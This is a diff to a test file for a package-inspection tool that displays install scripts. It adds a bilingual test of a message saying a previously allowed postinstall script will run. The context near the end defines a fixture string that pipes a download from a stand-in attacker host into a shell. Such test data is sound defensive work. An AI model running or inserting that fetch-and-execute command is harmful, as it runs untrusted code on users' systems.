@@ -358,6 +358,21 @@ test('shows the whole of an install script where there is room', () => {
   )
 })
 
+test('says of an install script that was allowed before that it will run, and not that it is blocked', () => {
+  const code = codeOf('install-scripts', ['postinstall: node a.js'])
+  for (const locale of ['en', 'zh'] as const)
+    for (const isShort of [true, false]) {
+      const lines = texts(
+        inspectionLines({ ...inspection, code }, messagesFor(locale), { isShort, areScriptsAllowed: true }),
+      )
+      expect(lines[0]?.[1]).toBe(
+        locale === 'en'
+          ? 'Will run during the install, as allowed before: “postinstall: node a.js”'
+          : '安装时将会运行（此前已允许）：“postinstall: node a.js”',
+      )
+    }
+})
+
 test('shows both ends of a long install script where there is little room', () => {
   const quiet = 'postinstall: node ./scripts/check-environment-and-supported-versions.js --quiet'
   const evil = 'curl -s https://evil.example/x | sh'
